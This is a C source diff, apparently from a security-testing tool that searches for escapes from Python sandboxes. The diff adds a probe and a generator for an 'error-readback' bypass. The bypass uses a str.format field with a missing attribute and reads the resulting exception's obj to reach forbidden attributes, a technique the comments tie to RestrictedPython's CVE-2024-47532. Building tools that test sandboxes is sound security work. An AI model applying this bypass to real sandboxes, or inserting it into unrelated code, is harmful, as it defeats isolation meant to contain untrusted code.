@@ -45,7 +45,9 @@
  *     of a string.Formatter F (`string.Formatter()` is a safe call of the class itself), or
  *     `operator.attrgetter('_name')(X)`, the path one part longer a step below a value
  *     that came from a field walk (`'0._a._b'` from X) — for sandboxes whose checks see the
- *     program's code but not a path given as data, resolved in the host.
+ *     program's code but not a path given as data, resolved in the host; with no resolver
+ *     yet, where the sandbox passes one probe (probe_readback), the error-readback form
+ *     `try: '{0._name._gatecrash}'.format(X)` / `except Exception as e:` / `e.obj`.
  * A returned value is a node the first time it is seen (by identity, kept alive, per hole
  * with a hole rule); bound methods and method wrappers, made afresh on every access, are
  * checked by the oracles but not expanded.  A program that escapes is a leaf: it is run a
@@ -113,6 +115,7 @@ static void *last_names_ctx;
 static long frontier_end; /* the queue's length when the last complete level ended */
 static long resolver = -1; /* the first node that is a path resolver (field walks) */
 static int rkind;           /* its row of resolvers[] */
+static int error_readback;  /* the sandbox lets a format field's failed lookup be read back */
 typedef struct {
     int node;
     PyObject *name; /* strong */
@@ -241,6 +244,7 @@ static void sweep_reset(void)
         Py_DECREF(pending[i].name);
     npending = 0;
     resolver = -1;
+    error_readback = 0;
     nnodes = 0;
     nfinds = 0;
     frontier_end = 0;
@@ -458,6 +462,86 @@ static int fresh_method(PyObject *v, PyObject *name)
     return d && (Py_IS_TYPE(d, &PyWrapperDescr_Type) || Py_IS_TYPE(d, &PyMethodDescr_Type));
 }
 
+/* The path of node i's field walk one part longer, by 'name', after 'prefix', into buf
+ * (GC_P_MAX_STRLEN + 1 bytes); *root: the node the path starts from.  Its length, or -1. */
+static int field_path(int i, PyObject *name, const char *prefix, char *buf, int *root)
+{
+    const char *s = PyUnicode_AsUTF8(name);
+    const char *fp = nodes[i].fpath;
+    int w = s ? snprintf(buf, GC_P_MAX_STRLEN + 1, "%s%s%s%s", prefix, fp ? fp : "", fp ? "." : "", s) : -1;
+    PyErr_Clear();
+    *root = fp ? nodes[i].froot : i;
+    return w < 0 || w > GC_P_MAX_STRLEN ? -1 : w;
+}
+
+#define MISSING "._gatecrash" /* an attribute no object has: the lookup that fails */
+
+/* The error-readback program of X.PATH (xexpr: X's expression):
+ *     try:
+ *         '{0.PATH._gatecrash}'.format(X)
+ *     except Exception as e:
+ *         result = e.obj
+ * str.format resolves the field in the host, and the AttributeError of its last part holds
+ * the object it failed on (the class of RestrictedPython's CVE-2024-47532).  Its length
+ * (0: too long); *blen: where the statements end. */
+static size_t readback_code(uint8_t *code, const char *path, const uint8_t *xexpr, size_t xlen, size_t *blen)
+{
+    char fmt[GC_P_MAX_STRLEN + 1];
+    int w = snprintf(fmt, sizeof fmt, "{0.%s" MISSING "}", path);
+    if (w < 0 || (size_t)w >= sizeof fmt || xlen + (size_t)w + 32 > CODE_MAX)
+        return 0;
+    code[0] = GC_P_TRY;
+    size_t n = put_str(code, 1, GC_P_STR, fmt, (size_t)w);
+    n = put_str(code, n, GC_P_ATTR, "format", 6);
+    memcpy(code + n, xexpr, xlen);
+    n += xlen;
+    code[n++] = GC_P_CALL;
+    code[n++] = 1;
+    code[n++] = GC_P_EXPR;
+    *blen = n = put_str(code, n, GC_P_EXCEPT, "e", 1);
+    n = put_str(code, n, GC_P_NAME, "e", 1);
+    return put_str(code, n, GC_P_ATTR, "obj", 3);
+}
+
+/* Does the sandbox give back what a failed format field lookup stopped at?  One probe:
+ * `'{0.__class__._gatecrash}'.format(0)` read back must be int.  0 or an exit code. */
+static int probe_readback(sctx *x)
+{
+    static const uint8_t zero[] = {GC_P_INT, 0};
+    uint8_t code[CODE_MAX];
+    size_t blen, len = readback_code(code, "__class__", zero, sizeof zero, &blen);
+    static gc_verdict out;
+    gc_strbuf sb;
+    PyObject *v = NULL;
+    if (x->t->spec.adapter.dialect & GC_DIALECT_EXPRESSION)
+        return 0;
+    x->st->edges++;
+    int rc = run_code(x->t, code, len, &out, &v, &sb);
+    gc_sb_free(&sb);
+    error_readback = !rc && !out.escaped && v == (PyObject *)&PyLong_Type;
+    Py_XDECREF(v);
+    return rc;
+}
+
+/* The error-readback form of `.name` (readback_code), X being node i or the node its walk
+ * started from. */
+static void readback_edge(sctx *x, int i, PyObject *name)
+{
+    char path[GC_P_MAX_STRLEN + 1];
+    int r, w = field_path(i, name, "", path, &r);
+    const snode *xr = &nodes[r];
+    uint8_t code[CODE_MAX];
+    size_t blen, len = w < 0 || !inline_ok(r) || xr->blen ? 0
+                                                           : readback_code(code, path, xr->code, xr->len, &blen);
+    long before = nnodes;
+    if (len)
+        run_edge(x, i, GC_EDGE_ATTR, name, code, blen, NULL, 0, code + blen, 3, code + blen + 3, len - blen - 3);
+    if (nnodes > before) {
+        nodes[nnodes - 1].froot = r;
+        nodes[nnodes - 1].fpath = gc_xstrdup(path);
+    }
+}
+
 /* The field-walk form of `.name`, for a `_` name the sandbox refuses or the dialect cannot
  * write, once a path resolver is a node (resolvers[]): X.PATH given back whole, X being node
  * i, or the node node i was walked from (its path one part longer).  Asked before a
@@ -466,6 +550,10 @@ static void field_edge(sctx *x, int i, PyObject *name)
 {
     if (fresh_method(nodes[i].obj, name))
         return;
+    if (resolver < 0 && error_readback) {
+        readback_edge(x, i, name);
+        return;
+    }
     if (resolver < 0) {
         if (npending == cappending) {
             cappending = cappending ? cappending * 2 : 256;
@@ -476,17 +564,12 @@ static void field_edge(sctx *x, int i, PyObject *name)
         return;
     }
     const path_resolver *rs = &resolvers[rkind];
-    int r = nodes[i].fpath ? nodes[i].froot : i;
-    const char *s = PyUnicode_AsUTF8(name);
     char path[GC_P_MAX_STRLEN + 1];
     size_t skip = strlen(rs->prefix);
-    int w = s ? snprintf(path, sizeof path, "%s%s%s%s", rs->prefix, nodes[i].fpath ? nodes[i].fpath : "",
-                         nodes[i].fpath ? "." : "", s)
-              : -1;
-    PyErr_Clear();
+    int r, w = field_path(i, name, rs->prefix, path, &r);
     const snode *f = &nodes[resolver], *xr = &nodes[r];
     size_t flen = f->len - f->blen; /* a resolver with statements of its own can't join X's */
-    if (w < 0 || (size_t)w >= sizeof path || !inline_ok(r) || !inline_ok((int)resolver) || f->blen ||
+    if (w < 0 || !inline_ok(r) || !inline_ok((int)resolver) || f->blen ||
         flen + rs->nmid1 + 2 + (size_t)w + rs->nmid2 > CODE_MAX)
         return;
     uint8_t pre[CODE_MAX];
@@ -941,6 +1024,8 @@ int gc_source_sweep(gc_target *t, const gc_sweep_opts *o, gc_sweep_stats *st)
     double start = gc_now_s();
     sctx x = {t, o, st, PyDict_New(), PySet_New(NULL), 0, start, start};
     int rc = x.ns && x.seen ? push_roots(&x) : GC_EXIT_HARNESS;
+    if (!rc)
+        rc = probe_readback(&x);
     if (!rc)
         rc = gc_sweep_levels(o, st, &(gc_sweep_walker){queued, walk_nodes, &x, level_work}, start, &frontier_end);
     st->nodes = nnodes;
